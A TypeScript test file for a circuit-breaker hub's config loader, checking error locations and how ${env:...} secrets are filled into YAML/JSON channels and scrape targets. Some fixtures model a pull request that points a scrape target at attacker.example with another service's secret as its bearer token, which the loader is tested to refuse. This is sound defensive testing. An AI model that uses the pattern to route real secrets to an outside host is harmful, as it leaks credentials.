import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'yaml';
import { ConfigFile } from './config-file';

const dir = mkdtempSync(path.join(tmpdir(), 'cbh-file-'));
function file(name: string, text: string): ConfigFile {
  writeFileSync(path.join(dir, name), text);
  return ConfigFile.read(path.join(dir, name));
}

const YAML = `version: 1
breakers:
  - name: a
    failureThreshold: 5
  - name: b
    failureThreshold: 99
    colour: red
services: []
domains: []
`;

describe('a refused document, explained with places in the file', () => {
  it('puts each of the hub’s problems at its line and column, a missing key at its item', () => {
    const hub = file('hub.yaml', YAML);
    expect(hub.contentType).toBe('application/yaml');
    expect(hub.items).toBe(2);
    expect(
      hub.explain('breakers[1].failureThreshold: must be at most 20; breakers[1]: unknown key colour; breakers[0].timeout: is required'),
    ).toBe(
      [
        `${hub.name}:6:23: breakers[1].failureThreshold: must be at most 20`,
        `${hub.name}:5:5: breakers[1]: unknown key colour`,
        `${hub.name}:3:5: breakers[0].timeout: is required`,
      ].join('\n'),
    );
    expect(hub.explain('version: must be 1')).toBe(`${hub.name}:1:10: version: must be 1`);
    // a message without a place names the file only
    expect(hub.explain('Send the configuration document as the body')).toBe(`${hub.name}: Send the configuration document as the body`);
  });

  it('reads JSON files the same way, sent as JSON', () => {
    const hub = file(
      'hub.json',
      JSON.stringify({ version: 1, breakers: [{ name: 'a', failureThreshold: 99 }], services: [], domains: [] }, null, 2),
    );
    expect(hub.contentType).toBe('application/json');
    expect(hub.explain('breakers[0].failureThreshold: must be at most 20')).toBe(
      `${hub.name}:6:27: breakers[0].failureThreshold: must be at most 20`,
    );
  });

  it('refuses a file it cannot send before anything is sent', () => {
    expect(() => file('hub.txt', YAML)).toThrow('hub.txt: name the file .yaml, .yml or .json, so that cbh knows how to send it');
    expect(() => ConfigFile.read(path.join(dir, 'missing.yaml'))).toThrow(`Cannot read ${path.join(dir, 'missing.yaml')}: no such file`);
    expect(() => file('broken.yml', 'version: 1\nbreakers: [\n')).toThrow(/broken\.yml:3:1: .+; nothing was sent to the hub$/);
  });
});

describe("a channel's references ${env:NAME}, filled in from the environment", () => {
  const env = {
    CBH_CHANNEL_OPS_URL: 'https://hooks.example.com/a?b="c"',
    CBH_CHANNEL_OPS_SECRET: '12345678',
    CBH_CHANNEL_OTHER_SECRET: '',
    CBH_TOKEN: 'cbh_not-for-the-document',
  };

  it('replaces each reference whose variable is set, in YAML and JSON, and leaves the rest of the file as it was', () => {
    const hub = file(
      'refs.yaml',
      `version: 1
breakers: []
services: []
domains: []
channels:
  - name: Ops
    type: webhook
    url: \${env:CBH_CHANNEL_OPS_URL}   # filled
    secret: "\${env:CBH_CHANNEL_OPS_SECRET}"
  - name: Other
    type: webhook
    url: \${env:CBH_CHANNEL_OTHER_URL}
    secret: \${env:CBH_CHANNEL_OTHER_SECRET}
notificationRules:
  - name: \${env:CBH_CHANNEL_OPS_URL}
    events: [breaker.opened]
    channels: [Ops]
`,
    );
    const sent = hub.referencesFilled(env);
    expect(sent.filled).toBe(2);
    expect(sent.unfilled).toEqual([
      { at: `${hub.name}:12:10`, place: 'channels[1].url', variable: 'CBH_CHANNEL_OTHER_URL' },
      { at: `${hub.name}:13:13`, place: 'channels[1].secret', variable: 'CBH_CHANNEL_OTHER_SECRET' },
    ]);
    expect(sent.text).toContain('    url: "https://hooks.example.com/a?b=\\"c\\""   # filled\n    secret: "12345678"\n');
    // only a channel's url and secret: a reference anywhere else is the document's text
    expect(sent.text).toContain('  - name: ${env:CBH_CHANNEL_OPS_URL}\n');
    expect(parse(sent.text).channels).toEqual([
      { name: 'Ops', type: 'webhook', url: env.CBH_CHANNEL_OPS_URL, secret: '12345678' },
      { name: 'Other', type: 'webhook', url: '${env:CBH_CHANNEL_OTHER_URL}', secret: '${env:CBH_CHANNEL_OTHER_SECRET}' },
    ]);
    expect(hub.text).toContain('url: ${env:CBH_CHANNEL_OPS_URL}   # filled');
    expect(hub.items).toBe(3);

    const json = file(
      'refs.json',
      JSON.stringify({ version: 1, channels: [{ name: 'Ops', type: 'webhook', url: '${env:CBH_CHANNEL_OPS_URL}' }] }, null, 2),
    );
    expect(JSON.parse(json.referencesFilled(env).text).channels[0].url).toBe(env.CBH_CHANNEL_OPS_URL);
    expect(json.referencesFilled({}).text).toBe(json.text);
  });

  it('fills in only the hub’s own variables, in place: another variable of the job, or an anchor that would copy the value, is refused before anything is sent', () => {
    const channel = (secret: string, extra = '') =>
      file(
        'pr.yaml',
        `version: 1\nchannels:\n  - name: Ops\n    type: webhook\n    url: https://hooks.example.com/x\n    secret: ${secret}\n${extra}`,
      );
    expect(() => channel('${env:CBH_TOKEN}').referencesFilled(env)).toThrow(
      'pr.yaml:6:13: channels[0].secret: cbh fills in only variables named CBH_CHANNEL_… or CBH_SCRAPE_…, not CBH_TOKEN; nothing was sent to the hub',
    );
    const copied = channel('&s ${env:CBH_CHANNEL_OPS_SECRET}', 'maintenanceWindows:\n  - name: *s\n');
    expect(() => copied.referencesFilled(env)).toThrow(
      'channels[0].secret: a reference may not carry an anchor (&s); nothing was sent to the hub',
    );
  });

  it('fills in a scrape target’s bearer token from CBH_SCRAPE_…, and nothing else of the target', () => {
    const targets = file(
      'targets.yaml',
      'version: 1\nscrapeTargets:\n  - name: orders\n    url: http://orders:8080/actuator/prometheus\n    intervalSeconds: 15\n    bearerToken: ${env:CBH_SCRAPE_ORDERS_TOKEN}\n  - name: ${env:CBH_SCRAPE_ORDERS_TOKEN}\n    url: http://b:1/m\n    intervalSeconds: 5\n',
    );
    const sent = targets.referencesFilled({ CBH_SCRAPE_ORDERS_TOKEN: 'orders-token' });
    expect(sent.filled).toBe(1);
    expect(
      parse(sent.text).scrapeTargets.map((target: { name: string; bearerToken?: string }) => [target.name, target.bearerToken]),
    ).toEqual([
      ['orders', 'orders-token'],
      ['${env:CBH_SCRAPE_ORDERS_TOKEN}', undefined],
    ]);
    expect(targets.items).toBe(2);
    // a channel's secret (or another target's token) would be sent to the URL beside the reference
    const stolen = file(
      'pr.yaml',
      'version: 1\nscrapeTargets:\n  - name: orders\n    url: https://attacker.example/m\n    intervalSeconds: 15\n    bearerToken: ${env:CBH_CHANNEL_OPS_SECRET}\n',
    );
    expect(() => stolen.referencesFilled(env)).toThrow(
      "pr.yaml:6:18: scrapeTargets[0].bearerToken: cbh fills in here only the target's own CBH_SCRAPE_<NAME>_TOKEN, not CBH_CHANNEL_OPS_SECRET; nothing was sent to the hub",
    );
    const other = file(
      'pr2.yaml',
      'version: 1\nscrapeTargets:\n  - name: mine\n    url: https://attacker.example/m\n    intervalSeconds: 15\n    bearerToken: ${env:CBH_SCRAPE_ORDERS_TOKEN}\n',
    );
    expect(() => other.referencesFilled({ CBH_SCRAPE_ORDERS_TOKEN: 'x' })).toThrow(/not CBH_SCRAPE_ORDERS_TOKEN/);
    expect(targets.referencesFilled({}).unfilled).toEqual([
      { at: `${targets.name}:6:18`, place: 'scrapeTargets[0].bearerToken', variable: 'CBH_SCRAPE_ORDERS_TOKEN' },
    ]);
  });
});
